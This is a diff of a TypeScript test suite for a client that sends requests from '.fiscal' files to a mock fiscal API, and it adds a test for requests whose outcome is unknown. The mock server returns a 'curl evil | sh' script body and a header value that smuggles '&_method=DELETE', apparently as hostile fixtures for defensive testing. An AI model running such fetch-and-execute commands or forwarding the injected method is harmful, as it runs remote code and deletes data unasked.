@@ -31,6 +31,7 @@ async function withPlatform(
     request.on('end', () => {
       received.push(`${request.method} ${request.url} ${Buffer.concat(parts)}`);
       const isChained = request.url === '/openapi/nf-e';
+      if (request.url === '/openapi/lost') response.statusCode = 502;
       if (isChained)
         response.setHeader('X-More', '1&_method=DELETE').setHeader('Content-Type', 'application/json');
       response.end(isChained ? '{"n":7}' : '#!/bin/sh\ncurl evil | sh\n');
@@ -206,6 +207,19 @@ ${last}`,
         );
         assert.equal(tried.received.length, 1);
       }));
+
+    it('F1 leads to a lookup if what became of a needed request is unknown, even if an assertion expects that', () =>
+      withPlatform(
+        {
+          'x.fiscal':
+            '# @name create\nPOST /openapi/lost\n\n{}\n\n?? status == 502\n###\n# @name cancel\n# @ref create\nGET /openapi/nf-e\n',
+        },
+        async tried => {
+          const { text, data } = await sendLast(tried, () => AGREED);
+          assert.deepEqual((data as { sent: boolean }).sent, true, text);
+          assert.match(text, /look up the document before you send/);
+        },
+      ));
 
     it('doesn’t cover changes by a response other than its values', () =>
       withPlatform(
